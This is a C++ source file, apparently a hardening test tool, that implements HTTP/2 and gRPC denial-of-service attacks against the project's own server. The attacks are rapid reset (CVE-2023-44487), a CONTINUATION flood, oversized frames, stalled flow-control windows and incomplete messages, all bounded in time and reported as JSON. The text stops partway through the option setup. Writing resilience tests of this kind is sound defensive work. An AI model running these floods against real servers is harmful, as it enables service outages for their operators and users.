// cloudcast-attack: the attacks of issue 18 against a cloudcast server (or a proxy in front of
// one), each a bounded loop (at most 20 s) that prints what it did as one JSON object. A test tool:
// tests/hardening_attacks_test.cc runs it beside a paced stream and watches the server.
//
//   rapid-reset         raw HTTP/2: HEADERS then RST_STREAM(CANCEL) on stream n, n += 2, in
//                       batches of --pairs-per-write (CVE-2023-44487)
//   continuation-flood  raw HTTP/2: HEADERS without END_HEADERS, then CONTINUATION frames of one
//                       incrementally indexed 4 KB header each, never END_HEADERS (on
//                       --connections connections at once)
//   big-frames          gRPC: --calls Process calls of --side x --side frames (PNG or zstd),
//                       each on its own channel, back to back
//   greedy-streams      gRPC: --calls DELIVERY_ALL streams, each on its own channel, sending
//                       frames as fast as flow control lets them
//   silent-streams      gRPC: --calls Stream calls that send one StreamConfig, then nothing
//   stalled-window      raw HTTP/2 (issue 30): --calls DELIVERY_ALL Stream calls on --connections
//                       connections advertising HTTP/2's default 64 KB window, sending frames,
//                       and never giving the window of the replies back (or at --window-rate
//                       bytes a second)
//   config-churn        raw HTTP/2 (issue 30): --calls Stream calls that send a new StreamConfig
//                       before every frame, as fast as flow control lets them, reading every
//                       reply; then the client leaves (--exit: half-close and close, by default)
//
// --source ADDR makes every connection leave from ADDR (another loopback address: 127.0.0.2, ...),
// the way a second machine would connect: its gRPC channels included (see connect() below).
#include <arpa/inet.h>
#include <dlfcn.h>
#include <grpcpp/grpcpp.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include <CLI/CLI.hpp>
#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <iostream>
#include <map>
#include <mutex>
#include <nlohmann/json.hpp>
#include <opencv2/core.hpp>
#include <opencv2/imgcodecs.hpp>
#include <string>
#include <thread>
#include <vector>

#include "cloudcast/proto/convert.h"
#include "cloudcast/v1/cloudcast.grpc.pb.h"
#include "raw_h2.h"

namespace {

using Clock = std::chrono::steady_clock;
using nlohmann::json;

// The address every IPv4 connection of this process leaves from (0: the kernel's choice).
in_addr g_source{};

}  // namespace

// gRPC has no option for a channel's local address. This program defines connect() itself, which
// the dynamic linker then binds gRPC's calls to (an executable's symbols come first): it binds the
// socket to --source, then connects with libc's connect.
extern "C" int connect(int fd, const sockaddr* address, socklen_t length) {
  using Connect = int (*)(int, const sockaddr*, socklen_t);
  static const Connect libc_connect = reinterpret_cast<Connect>(dlsym(RTLD_NEXT, "connect"));
  // A socket bound already (the raw client binds its own) keeps its address.
  if (g_source.s_addr != 0 && address != nullptr && address->sa_family == AF_INET) {
    sockaddr_in from{};
    from.sin_family = AF_INET;
    from.sin_addr = g_source;
    (void)bind(fd, reinterpret_cast<const sockaddr*>(&from), sizeof from);
  } else if (g_source.s_addr != 0 && address != nullptr && address->sa_family == AF_INET6 &&
             IN6_IS_ADDR_V4MAPPED(&reinterpret_cast<const sockaddr_in6*>(address)->sin6_addr)) {
    // gRPC's sockets are dual-stack: an IPv4 server is dialled at ::ffff:a.b.c.d.
    sockaddr_in6 from{};
    from.sin6_family = AF_INET6;
    from.sin6_addr.s6_addr[10] = 0xff;
    from.sin6_addr.s6_addr[11] = 0xff;
    std::memcpy(&from.sin6_addr.s6_addr[12], &g_source, 4);
    (void)bind(fd, reinterpret_cast<const sockaddr*>(&from), sizeof from);
  }
  return libc_connect(fd, address, length);
}

namespace cloudcast::attacks {
namespace {

struct Common {
  std::string target = "127.0.0.1:50051";
  std::string source;
  double seconds = 10;
};

// Said on stderr once the attack's requests are made (a 4096x4096 frame takes a second or two to
// encode), just before its clock starts: a harness starts its measurement then.
void Ready(const char* attack) {
  std::fprintf(stderr, "cloudcast-attack %s: ready\n", attack);
  std::fflush(stderr);
}

Clock::time_point Deadline(const Common& c) {
  return Clock::now() + std::chrono::milliseconds(static_cast<std::int64_t>(c.seconds * 1000));
}

double Since(Clock::time_point t0) {
  return std::chrono::duration<double>(Clock::now() - t0).count();
}

// ------------------------------------------------------------------------------------------------
// Raw HTTP/2 floods. Each keeps one connection busy and opens a new one when the server closes it
// (an attacker would), counting the connections and the GOAWAYs.

struct FloodTally {
  std::uint64_t connections = 0, connect_failures = 0, writes = 0, bytes = 0, units = 0;
  std::uint64_t goaways = 0, rst_received = 0;
  std::map<std::uint32_t, std::uint64_t> goaway_codes;

  void Add(const ConnectionStats& s) {
    goaways += s.goaways;
    rst_received += s.rst_streams_received;
    if (s.goaways > 0) ++goaway_codes[s.last_goaway_code];
  }
  json ToJson(const char* unit) const {
    json codes = json::object();
    for (const auto& [code, n] : goaway_codes) codes[std::to_string(code)] = n;
    return {{"connections", connections},
            {"connect_failures", connect_failures},
            {"writes", writes},
            {"bytes", bytes},
            {unit, units},
            {"goaways", goaways},
            {"goaway_codes", codes},
            {"rst_streams_received", rst_received}};
  }
};

// Runs `batch(stream_id)` -> bytes on connection after connection until the deadline, on
// `parallel` connections at once (a thread each, each with its own copies of `first` and `batch`).
// `batch` returns the next batch to write and the number of units (pairs, frames) in it; `first`
// is what a new connection sends first.
template <typename First, typename Batch>
json Flood(const Common& c, const char* name, const char* unit, First first, Batch batch,
           int parallel = 1) {
  std::string host;
  int port = 0;
  if (!SplitHostPort(c.target, &host, &port)) {
    return {{"error", "--target must be IPV4:PORT, got " + c.target}};
  }
  Ready(name);
  const auto t0 = Clock::now();
  const auto deadline = Deadline(c);
  std::vector<FloodTally> tallies(static_cast<std::size_t>(parallel));
  std::vector<std::thread> threads;
  for (FloodTally& tally : tallies) {
    threads.emplace_back([&, first, batch]() mutable {
      while (Clock::now() < deadline) {
        auto conn = RawH2Connection::Connect(host, port, c.source);
        if (!conn.ok()) {
          ++tally.connect_failures;
          std::this_thread::sleep_for(std::chrono::milliseconds(50));  // bounded by the deadline
          continue;
        }
        ++tally.connections;
        std::uint32_t stream = 1;
        bool ok = (*conn)->Write(first(&stream), deadline);
        while (ok && Clock::now() < deadline && !(*conn)->closed() && stream < (1u << 30)) {
          std::uint64_t units = 0;
          const std::string bytes = batch(&stream, &units);
          ok = (*conn)->Write(bytes, deadline);
          if (ok) {
            ++tally.writes;
            tally.bytes += bytes.size();
            tally.units += units;
          }
        }
        // A moment for the server's last frames (its GOAWAY) before the count.
        std::this_thread::sleep_for(std::chrono::milliseconds(20));
        tally.Add((*conn)->stats());
      }
    });
  }
  for (std::thread& t : threads) t.join();
  FloodTally total;
  for (const FloodTally& t : tallies) {
    total.connections += t.connections;
    total.connect_failures += t.connect_failures;
    total.writes += t.writes;
    total.bytes += t.bytes;
    total.units += t.units;
    total.goaways += t.goaways;
    total.rst_received += t.rst_received;
    for (const auto& [code, n] : t.goaway_codes) total.goaway_codes[code] += n;
  }
  json out = total.ToJson(unit);
  out["attack"] = name;
  out["parallel_connections"] = parallel;
  out["seconds"] = Since(t0);
  return out;
}

json RapidReset(const Common& c, const std::string& path, int pairs_per_write, bool message) {
  const std::string headers = GrpcRequestHeaders(path, c.target);
  // An empty message (a valid GetInfoRequest; an empty StreamRequest), so that a proxy that waits
  // for a call's first bytes before passing it on has them.
  const std::string empty_message = GrpcMessage("");
  return Flood(
      c, "rapid-reset", "pairs", [](std::uint32_t*) { return std::string(); },
      [&](std::uint32_t* stream, std::uint64_t* units) {
        std::string out;
        for (int i = 0; i < pairs_per_write; ++i) {
          out += Frame(kHeaders, kEndHeaders, *stream, headers);
          if (message) out += Frame(kData, 0, *stream, empty_message);
          out += RstStream(*stream, kCancel);
          *stream += 2;
        }
        *units = static_cast<std::uint64_t>(pairs_per_write);
        return out;
      });
}

json ContinuationFlood(const Common& c, const std::string& path, int frames_per_write,
                       int value_bytes, int connections) {
  const std::string value(static_cast<std::size_t>(value_bytes), 'v');
  std::uint64_t next = 0;  // each connection's thread counts in its own copy
  return Flood(
      c, "continuation-flood", "continuation_frames",
      [&](std::uint32_t* stream) {
        // The request's own headers open the block, which never ends.
        return Frame(kHeaders, 0, *stream, GrpcRequestHeaders(path, c.target));
      },
      [&value, &c, frames_per_write, next](std::uint32_t* stream, std::uint64_t* units) mutable {
        std::string out;
        for (int i = 0; i < frames_per_write; ++i, ++next) {
          out += Frame(kContinuation, 0, *stream,
                       HpackLiteral("x-h" + std::to_string(next % 1000), value, true));
        }
        *units = static_cast<std::uint64_t>(frames_per_write);
        return out;
      },
      connections);
}

// ------------------------------------------------------------------------------------------------
// gRPC clients.

// A channel of its own (a distinct argument keeps gRPC from sharing one connection between them).
std::shared_ptr<grpc::Channel> OwnChannel(const std::string& target, int index) {
  grpc::ChannelArguments args;
  args.SetInt("cloudcast.attack.channel", index);
  args.SetMaxSendMessageSize(256 << 20);
  args.SetMaxReceiveMessageSize(256 << 20);
  return grpc::CreateCustomChannel(target, grpc::InsecureChannelCredentials(), args);
}

struct CallTally {
  std::mutex mu;
  std::map<std::string, std::uint64_t> codes;
  std::map<std::string, std::uint64_t> messages;  // the first words of each distinct error

  void Add(const grpc::Status& s) {
    std::lock_guard<std::mutex> lock(mu);
    ++codes[std::to_string(s.error_code())];
    if (!s.ok()) ++messages[s.error_message().substr(0, 160)];
  }
  json ToJson() {
    std::lock_guard<std::mutex> lock(mu);
    return {{"status_codes", codes}, {"errors", messages}};
  }
};

// A frame of side x side pixels: U8 disparity `disparity` everywhere (every pixel a point in the
// paper's passthrough for 100), RGB8 colour, as PNG or as zstd-compressed raw images.
absl::StatusOr<v1::Frame> BigFrame(std::uint32_t side, const std::string& encoding, int disparity) {
  v1::Frame frame;
  cv::Mat d(static_cast<int>(side), static_cast<int>(side), CV_8U, cv::Scalar(disparity));
  cv::Mat rgb(static_cast<int>(side), static_cast<int>(side), CV_8UC3, cv::Scalar(40, 120, 200));
  if (encoding == "png") {
    std::vector<std::uint8_t> bytes;
    if (!cv::imencode(".png", d, bytes, {cv::IMWRITE_PNG_COMPRESSION, 9})) {
      return absl::InternalError("PNG encoding failed");
    }
    frame.mutable_disparity()->set_encoded(bytes.data(), bytes.size());
    if (!cv::imencode(".png", rgb, bytes, {cv::IMWRITE_PNG_COMPRESSION, 9})) {
      return absl::InternalError("PNG encoding failed");
    }
    frame.mutable_color()->set_encoded(bytes.data(), bytes.size());
    return frame;
  }
  DisparityView dv;
  dv.width = dv.height = side;
  dv.encoding = DisparityEncoding::kU8;
  dv.stride_bytes = side;
  dv.data = d.data;
  dv.size_bytes = std::size_t{side} * side;
  ColorView cv_;
  cv_.width = cv_.height = side;
  cv_.encoding = ColorEncoding::kRGB8;
  cv_.stride_bytes = std::size_t{side} * 3;
  cv_.data = rgb.data;
  cv_.size_bytes = std::size_t{side} * side * 3;
  if (encoding == "raw") {
    if (auto s = convert::ToProto(dv, "d", frame.mutable_disparity()->mutable_raw()); !s.ok()) {
      return s;
    }
    if (auto s = convert::ToProto(cv_, "c", frame.mutable_color()->mutable_raw()); !s.ok()) {
      return s;
    }
    return frame;
  }
  convert::Compression z;
  z.level = 19;  // the smallest payload: the attack is its ratio
  if (auto s = convert::ToProto(dv, z, "d", frame.mutable_disparity()->mutable_compressed());
      !s.ok()) {
    return s;
  }
  if (auto s = convert::ToProto(cv_, z, "c", frame.mutable_color()->mutable_compressed());
      !s.ok()) {
    return s;
  }
  return frame;
}

json BigFrames(const Common& c, int calls, std::uint32_t side, const std::string& encoding,
               float leaf) {
  auto frame = BigFrame(side, encoding, 100);
  if (!frame.ok()) return {{"error", std::string(frame.status().message())}};
  v1::ProcessRequest request;
  *request.mutable_frame() = *frame;
  if (leaf > 0) request.mutable_config()->mutable_voxel_grid()->set_leaf(leaf);
  Ready("big-frames");
  const auto t0 = Clock::now();
  const auto deadline = Deadline(c);
  CallTally tally;
  std::atomic<std::uint64_t> answered{0};
  std::vector<std::thread> threads;
  for (int i = 0; i < calls; ++i) {
    threads.emplace_back([&, i] {
      auto stub = v1::CloudCast::NewStub(OwnChannel(c.target, i));
      std::uint64_t sequence = 0;
      while (Clock::now() < deadline) {
        v1::ProcessRequest r = request;
        r.mutable_frame()->set_sequence(sequence++);
        grpc::ClientContext ctx;
        // Calls still in flight at the end get a few seconds to finish, then are cancelled.
        ctx.set_deadline(std::chrono::system_clock::now() +
                         std::chrono::duration_cast<std::chrono::system_clock::duration>(
                             deadline - Clock::now() + std::chrono::seconds(5)));
        v1::CloudReply reply;
        const grpc::Status s = stub->Process(&ctx, r, &reply);
        tally.Add(s);
        if (s.ok()) answered.fetch_add(1);
        if (!s.ok() && s.error_code() != grpc::StatusCode::RESOURCE_EXHAUSTED) {
          std::this_thread::sleep_for(std::chrono::milliseconds(20));  // a refused call: retry
        }
      }
    });
  }
  for (auto& t : threads) t.join();
  json out = tally.ToJson();
  out["attack"] = "big-frames";
  out["calls"] = calls;
  out["side"] = side;
  out["encoding"] = encoding;
  out["request_bytes"] = request.ByteSizeLong();
  out["answered"] = answered.load();
  out["seconds"] = Since(t0);
  return out;
}

json GreedyStreams(const Common& c, int calls, std::uint32_t side) {
  auto frame = BigFrame(side, "raw", 100);
  if (!frame.ok()) return {{"error", std::string(frame.status().message())}};
  v1::StreamRequest request;
  *request.mutable_frame() = *frame;
  v1::StreamRequest config;
  config.mutable_config()->set_delivery(v1::DELIVERY_ALL);
  Ready("greedy-streams");
  const auto t0 = Clock::now();
  const auto deadline = Deadline(c);
  CallTally tally;
  std::atomic<std::uint64_t> sent{0}, answered{0};
  std::vector<std::thread> threads;
  for (int i = 0; i < calls; ++i) {
    threads.emplace_back([&, i] {
      auto stub = v1::CloudCast::NewStub(OwnChannel(c.target, i));
      grpc::ClientContext ctx;
      ctx.set_deadline(std::chrono::system_clock::now() +
                       std::chrono::duration_cast<std::chrono::system_clock::duration>(
                           deadline - Clock::now() + std::chrono::seconds(10)));
      auto call = stub->Stream(&ctx);
      std::thread reader([&] {
        v1::StreamReply reply;
        while (call->Read(&reply)) answered.fetch_add(1);
      });
      v1::StreamRequest mine = request;
      bool ok = call->Write(config);
      for (std::uint64_t n = 0; ok && Clock::now() < deadline; ++n) {
        mine.mutable_frame()->set_sequence(n);
        ok = call->Write(mine);
        if (ok) sent.fetch_add(1);
      }
      call->WritesDone();
      reader.join();
      tally.Add(call->Finish());
    });
  }
  for (auto& t : threads) t.join();
  json out = tally.ToJson();
  out["attack"] = "greedy-streams";
  out["calls"] = calls;
  out["side"] = side;
  out["sent"] = sent.load();
  out["answered"] = answered.load();
  out["seconds"] = Since(t0);
  return out;
}

// ------------------------------------------------------------------------------------------------
// Stream calls written frame by frame on raw HTTP/2 connections (issue 30): what a client does
// with its flow-control window and how it leaves are the attack, which a gRPC library does not let
// a client choose.

struct RawStreamsOptions {
  int calls = 4;
  int connections = 1;
  WindowPolicy window;
  double fps = 0;      // per call; 0: as fast as the windows let it
  bool churn = false;  // a new StreamConfig before every frame
  float leaf = 0;      // the configs' voxel leaf (0: the server's default)
  std::string exit = "close";
};

// A StreamRequest{config}, as a gRPC message. `variant` changes the config (the draco speed), so
// that each config of a churning client differs from the one before.
std::string ConfigMessage(float leaf, int variant) {
  v1::StreamRequest r;
  v1::StreamConfig* config = r.mutable_config();
  config->set_delivery(v1::DELIVERY_ALL);
  if (leaf > 0) config->mutable_voxel_grid()->set_leaf(leaf);
  config->mutable_draco()->set_encode_speed(variant % 2 == 0 ? 10 : 9);
  return GrpcMessage(r.SerializeAsString());
}

json RawStreams(const Common& c, const char* name, const RawStreamsOptions& o,
                const v1::Frame& frame) {
  std::string host;
  int port = 0;
  if (!SplitHostPort(c.target, &host, &port)) {
    return {{"error", "--target must be IPV4:PORT, got " + c.target}};
  }
  std::vector<std::unique_ptr<RawH2Connection>> connections;
  for (int i = 0; i < o.connections; ++i) {
    auto conn = RawH2Connection::Connect(host, port, c.source, o.window);
    if (!conn.ok()) return {{"error", std::string(conn.status().message())}};
    connections.push_back(*std::move(conn));
  }
  // The frame's bytes once; each send patches its sequence in front (field 1 of Frame may come
  // first: a parser takes the last value of a field, so the frame's own sequence, 0, is left out).
  v1::Frame tail = frame;
  tail.clear_sequence();
  const std::string tail_bytes = tail.SerializeAsString();
  auto frame_message = [&](std::uint64_t sequence) {
    v1::Frame head;
    head.set_sequence(sequence + 1);
    std::string frame_bytes = head.SerializeAsString() + tail_bytes;
    std::string request;
    // StreamRequest.frame is field 2 (length-delimited): tag, varint length, the bytes.
    request.push_back(static_cast<char>((v1::StreamRequest::kFrameFieldNumber << 3) | 2));
    for (std::uint64_t n = frame_bytes.size();; n >>= 7) {
      if (n < 128) {
        request.push_back(static_cast<char>(n));
        break;
      }
      request.push_back(static_cast<char>((n & 0x7f) | 0x80));
    }
    request += frame_bytes;
    return GrpcMessage(request);
  };
  const std::string headers = GrpcRequestHeaders("/cloudcast.v1.CloudCast/Stream", c.target);
  Ready(name);
  const auto t0 = Clock::now();
  const auto deadline = Deadline(c);
  // Call i is stream 1 + 2 * (i / connections) on connection i % connections, opened in order.
  struct Call {
    RawH2Connection* conn;
    std::uint32_t stream;
  };
  std::vector<Call> calls;
  for (int i = 0; i < o.calls; ++i) {
    Call call{connections[static_cast<std::size_t>(i % o.connections)].get(),
              1 + 2 * static_cast<std::uint32_t>(i / o.connections)};
    if (!call.conn->OpenStream(call.stream, headers, false, deadline)) break;
    calls.push_back(call);
  }
  std::atomic<std::uint64_t> frames_sent{0}, configs_sent{0}, bytes_sent{0};
  std::vector<std::thread> threads;
  for (const Call& call : calls) {
    threads.emplace_back([&, call] {
      std::string first = ConfigMessage(o.leaf, 0);
      if (!call.conn->SendData(call.stream, first, false, deadline)) return;
      configs_sent.fetch_add(1);
      bytes_sent.fetch_add(first.size());
      const auto period =
          o.fps > 0 ? std::chrono::duration<double>(1.0 / o.fps) : std::chrono::duration<double>(0);
      auto next = Clock::now();
      for (std::uint64_t n = 0; Clock::now() < deadline; ++n) {
        std::string bytes = o.churn ? ConfigMessage(o.leaf, static_cast<int>(n + 1)) : "";
        bytes += frame_message(n);
        if (!call.conn->SendData(call.stream, bytes, false, deadline)) return;
        frames_sent.fetch_add(1);
        if (o.churn) configs_sent.fetch_add(1);
        bytes_sent.fetch_add(bytes.size());
        if (o.fps > 0) {
          next += std::chrono::duration_cast<Clock::duration>(period);
          std::this_thread::sleep_until(std::min(next, deadline));
        }
      }
    });
  }
  for (auto& t : threads) t.join();
  // Calls the server or a proxy ended do not end the attack: the client stays until its time is
  // up (bounded by the deadline), and then leaves.
  std::this_thread::sleep_until(deadline);
  // How the client leaves. A program that exits stops reading first: replies still arriving
  // then stay unread, and its kernel resets the connection when the socket closes (a program
  // that read everything ends with a FIN, after whatever it had not yet sent).
  std::uint64_t ended_before_exit = 0;
  for (const Call& call : calls) ended_before_exit += call.conn->StreamEnded(call.stream) ? 1 : 0;
  const auto exit_deadline = Clock::now() + std::chrono::milliseconds(500);
  if (o.exit == "close" || o.exit == "drain") {
    for (const Call& call : calls) call.conn->SendData(call.stream, "", true, exit_deadline);
  } else if (o.exit == "reset") {
    for (const Call& call : calls) call.conn->Write(RstStream(call.stream, kCancel), exit_deadline);
  }
  std::uint64_t drained = 0;
  if (o.exit == "drain") {
    // The server answers what it holds and ends each call: at most 5 s.
    const auto give_up = Clock::now() + std::chrono::seconds(5);
    for (const Call& call : calls) {
      while (!call.conn->StreamEnded(call.stream) && !call.conn->closed() &&
             Clock::now() < give_up) {
        std::this_thread::sleep_for(std::chrono::milliseconds(20));
      }
      drained += call.conn->StreamEnded(call.stream) ? 1 : 0;
    }
  }
  for (auto& conn : connections) {
    conn->StopReading();
    if (o.exit == "abort") conn->ResetOnClose();
  }
  if (o.exit != "abort") std::this_thread::sleep_for(std::chrono::milliseconds(100));
  ConnectionStats total;
  std::uint64_t closed_by_peer = 0;
  std::map<std::uint32_t, std::uint64_t> goaway_codes;
  for (auto& conn : connections) {
    const ConnectionStats s = conn->stats();
    total.data_bytes_received += s.data_bytes_received;
    total.window_given_back += s.window_given_back;
    total.messages_received += s.messages_received;
    total.streams_ended += s.streams_ended;
    total.rst_streams_received += s.rst_streams_received;
    total.goaways += s.goaways;
    if (s.goaways > 0) ++goaway_codes[s.last_goaway_code];
    closed_by_peer += conn->closed() ? 1 : 0;
  }
  const double seconds = Since(t0);
  connections.clear();  // the client is gone: its sockets are closed
  json codes = json::object();
  for (const auto& [code, n] : goaway_codes) codes[std::to_string(code)] = n;
  return {{"attack", name},
          {"calls", calls.size()},
          {"connections", o.connections},
          {"window", o.window.mode == WindowPolicy::kAsReceived ? "as received"
                     : o.window.mode == WindowPolicy::kNever    ? "never"
                                                                : "rate"},
          {"window_rate", o.window.bytes_per_second},
          {"exit", o.exit},
          {"frames_sent", frames_sent.load()},
          {"configs_sent", configs_sent.load()},
          {"bytes_sent", bytes_sent.load()},
          {"frame_bytes", tail_bytes.size()},
          {"data_bytes_received", total.data_bytes_received},
          {"replies_received", total.messages_received},
          {"window_given_back", total.window_given_back},
          {"streams_ended_by_peer_before_exit", ended_before_exit},
          {"streams_ended_by_peer", total.streams_ended},
          {"drained", drained},
          {"rst_streams_received", total.rst_streams_received},
          {"goaways", total.goaways},
          {"goaway_codes", codes},
          {"connections_closed_by_peer", closed_by_peer},
          {"seconds", seconds}};
}

// Issue 30, defect 4: Process calls on raw HTTP/2 connections, each announcing a message of
// `message_bytes` and sending all of it but the last byte, as fast as the server's windows let
// it; then holding the calls open until the deadline. What the server buffers of those messages
// is the attack.
json IncompleteProcess(const Common& c, int calls, int connection_count,
                       std::uint64_t message_bytes) {
  std::string host;
  int port = 0;
  if (!SplitHostPort(c.target, &host, &port)) {
    return {{"error", "--target must be IPV4:PORT, got " + c.target}};
  }
  std::vector<std::unique_ptr<RawH2Connection>> connections;
  for (int i = 0; i < connection_count; ++i) {
    auto conn = RawH2Connection::Connect(host, port, c.source);
    if (!conn.ok()) return {{"error", std::string(conn.status().message())}};
    connections.push_back(*std::move(conn));
  }
  // The message's 5-byte prefix (not compressed, its length), then filler sent a chunk at a time.
  std::string prefix(5, '\0');
  for (int i = 0; i < 4; ++i) {
    prefix[1 + i] = static_cast<char>((message_bytes >> (8 * (3 - i))) & 0xff);
  }
  const std::string chunk(1 << 20, '\x55');
  const std::string headers = GrpcRequestHeaders("/cloudcast.v1.CloudCast/Process", c.target);
  Ready("incomplete-process");
  const auto t0 = Clock::now();
  const auto deadline = Deadline(c);
  struct Call {
    RawH2Connection* conn;
    std::uint32_t stream;
  };
  std::vector<Call> opened;
  for (int i = 0; i < calls; ++i) {
    Call call{connections[static_cast<std::size_t>(i % connection_count)].get(),
              1 + 2 * static_cast<std::uint32_t>(i / connection_count)};
    if (!call.conn->OpenStream(call.stream, headers, false, deadline)) break;
    opened.push_back(call);
  }
  std::atomic<std::uint64_t> bytes_sent{0}, complete_but_one{0};
  std::vector<std::thread> threads;
  for (const Call& call : opened) {
    threads.emplace_back([&, call] {
      if (!call.conn->SendData(call.stream, prefix, false, deadline)) return;
      std::uint64_t left = message_bytes - 1;  // the last byte never comes
      while (left > 0) {
        const std::size_t n = static_cast<std::size_t>(std::min<std::uint64_t>(left, chunk.size()));
        if (!call.conn->SendData(call.stream, std::string_view(chunk).substr(0, n), false,
                                 deadline)) {
          return;
        }
        left -= n;
        bytes_sent.fetch_add(n);
      }
      complete_but_one.fetch_add(1);
    });
  }
  for (auto& t : threads) t.join();
  std::this_thread::sleep_until(deadline);
  std::uint64_t ended = 0;
  for (const Call& call : opened) ended += call.conn->StreamEnded(call.stream) ? 1 : 0;
  const double seconds = Since(t0);
  std::uint64_t goaways = 0, closed_by_peer = 0;
  for (auto& conn : connections) {
    goaways += conn->stats().goaways;
    closed_by_peer += conn->closed() ? 1 : 0;
    conn->StopReading();
  }
  connections.clear();
  return {{"attack", "incomplete-process"},
          {"calls", opened.size()},
          {"connections", connection_count},
          {"message_bytes", message_bytes},
          {"bytes_sent", bytes_sent.load()},
          {"calls_sent_but_the_last_byte", complete_but_one.load()},
          {"calls_ended_by_server", ended},
          {"goaways", goaways},
          {"connections_closed_by_peer", closed_by_peer},
          {"seconds", seconds}};
}

json SilentStreams(const Common& c, int calls) {
  v1::StreamRequest config;
  config.mutable_config()->set_delivery(v1::DELIVERY_ALL);
  Ready("silent-streams");
  const auto t0 = Clock::now();
  const auto deadline = Deadline(c);
  auto channel = OwnChannel(c.target, 0);
  auto stub = v1::CloudCast::NewStub(channel);
  CallTally tally;
  std::mutex mu;
  std::vector<double> ended_after;
  std::vector<std::unique_ptr<grpc::ClientContext>> contexts;
  std::vector<std::thread> threads;
  for (int i = 0; i < calls; ++i) contexts.push_back(std::make_unique<grpc::ClientContext>());
  for (int i = 0; i < calls; ++i) {
    threads.emplace_back([&, ctx = contexts[i].get()] {
      auto call = stub->Stream(ctx);
      call->Write(config);
      v1::StreamReply reply;
      while (call->Read(&reply)) {
      }
      const grpc::Status s = call->Finish();
      if (s.error_code() != grpc::StatusCode::CANCELLED) {
        std::lock_guard<std::mutex> lock(mu);
        ended_after.push_back(Since(t0));
      }
      tally.Add(s);
    });
  }
  // Silent until the deadline; then every call still open is cancelled.
  while (Clock::now() < deadline) std::this_thread::sleep_for(std::chrono::milliseconds(50));
  for (auto& ctx : contexts) ctx->TryCancel();
  for (auto& t : threads) t.join();
  std::sort(ended_after.begin(), ended_after.end());
  json out = tally.ToJson();
  out["attack"] = "silent-streams";
  out["calls"] = calls;
  out["ended_by_server"] = ended_after.size();
  out["first_ended_after_s"] = ended_after.empty() ? 0.0 : ended_after.front();
  out["seconds"] = Since(t0);
  return out;
}

}  // namespace
}  // namespace cloudcast::attacks

int main(int argc, char** argv) {
  using namespace cloudcast::attacks;
  CLI::App app{
      "cloudcast-attack: the HTTP/2 and gRPC attacks of issue 18 against a cloudcast server "
      "(or a proxy in front of one); bounded loops, a JSON summary on stdout. A test tool: use it "
      "only against servers of your own, on loopback"};
  app.require_subcommand(1);
  Common common;
  auto add_common = [&](CLI::App* sub) {
    sub->add_option("--target", common.target, "The server, IPV4:PORT")->capture_default_str();
    sub->add_option("--source", common.source,
                    "Connect from this local IPv4 address (e.g. 127.0.0.2), as another machine "
                    "would; default: the kernel's choice")
        ->capture_default_str();
    sub->add_option("--seconds", common.seconds, "How long the attack runs, at most 20")
        ->check(CLI::Range(0.1, 20.0))
        ->capture_default_str();
  };
  std::string path = "/cloudcast.v1.CloudCast/GetInfo";
  int pairs_per_write = 100, frames_per_write = 64, value_bytes = 4000, calls = 32;
  bool with_message = false;
  std::uint32_t side = 4096;
  std::string encoding = "png";
  float leaf = 0;

  auto* rr = app.add_subcommand("rapid-reset",
                                "HEADERS then RST_STREAM(CANCEL) on stream n, n += 2, batched "
                                "(CVE-2023-44487)");
  add_common(rr);
  rr->add_option("--path", path, "The method each HEADERS calls")->capture_default_str();
  rr->add_option("--pairs-per-write", pairs_per_write, "HEADERS + RST_STREAM pairs per write")
      ->check(CLI::Range(1, 10000))
      ->capture_default_str();
  rr->add_flag("--with-message", with_message,
               "Send each stream an empty gRPC message (DATA) between its HEADERS and its reset");

  auto* cf = app.add_subcommand("continuation-flood",
                                "HEADERS without END_HEADERS, then CONTINUATION frames of one "
                                "incrementally indexed header each, never END_HEADERS");
  add_common(cf);
  cf->add_option("--path", path, "The method the HEADERS calls")->capture_default_str();
  cf->add_option("--frames-per-write", frames_per_write, "CONTINUATION frames per write")
      ->check(CLI::Range(1, 10000))
      ->capture_default_str();
  cf->add_option("--value-bytes", value_bytes, "Bytes of each header's value")
      ->check(CLI::Range(1, 16000))
      ->capture_default_str();
  int flood_connections = 1;
  cf->add_option("--connections", flood_connections,
                 "Connections flooding at once (a thread each; a closed one is replaced)")
      ->check(CLI::Range(1, 64))
      ->capture_default_str();

  auto* bf = app.add_subcommand(
      "big-frames", "Process calls of big frames, each call on its own channel, back to back");
  add_common(bf);
  bf->add_option("--calls", calls, "Concurrent calls (channels)")
      ->check(CLI::Range(1, 256))
      ->capture_default_str();
  bf->add_option("--side", side, "Frame width and height, pixels")
      ->check(CLI::Range(16, 16384))
      ->capture_default_str();
  bf->add_option("--encoding", encoding, "png, zstd (compressed raw) or raw")
      ->check(CLI::IsMember({"png", "zstd", "raw"}))
      ->capture_default_str();
  bf->add_option("--leaf", leaf,
                 "Voxel leaf of the calls' config (a small one makes a voxel of every pixel); "
                 "0: the server's default")
      ->check(CLI::Range(0.0, 100.0))
      ->capture_default_str();

  auto* gs =
      app.add_subcommand("greedy-streams",
                         "DELIVERY_ALL streams, each on its own channel, sending raw frames as "
                         "fast as flow control lets them");
  add_common(gs);
  gs->add_option("--calls", calls, "Streams (channels)")
      ->check(CLI::Range(1, 256))
      ->capture_default_str();
  gs->add_option("--side", side, "Frame width and height, pixels")
      ->check(CLI::Range(16, 4096))
      ->capture_default_str();

  auto* ss =
      app.add_subcommand("silent-streams", "Stream calls that send one StreamConfig, then nothing");
  add_common(ss);
  ss->add_option("--calls", calls, "Streams (on one channel)")
      ->check(CLI::Range(1, 1024))
      ->capture_default_str();

  RawStreamsOptions raw;
  double window_rate = 0;
  std::string frame_encoding = "raw";
  std::uint32_t raw_side = 640;
  auto add_raw = [&](CLI::App* sub) {
    add_common(sub);
    sub->add_option("--calls", raw.calls, "Stream calls")
        ->check(CLI::Range(1, 1000))
        ->capture_default_str();
    sub->add_option("--connections", raw.connections,
                    "Connections the calls are spread over (round robin)")
        ->check(CLI::Range(1, 64))
        ->capture_default_str();
    sub->add_option("--side", raw_side, "Frame width and height, pixels (uniform disparity 100)")
        ->check(CLI::Range(16, 4096))
        ->capture_default_str();
    sub->add_option("--encoding", frame_encoding, "raw, zstd (compressed raw) or png")
        ->check(CLI::IsMember({"png", "zstd", "raw"}))
        ->capture_default_str();
    sub->add_option("--leaf", raw.leaf, "The configs' voxel leaf; 0: the server's default")
        ->check(CLI::Range(0.0, 100.0))
        ->capture_default_str();
    sub->add_option("--fps", raw.fps, "Frames a second per call; 0: as fast as the windows allow")
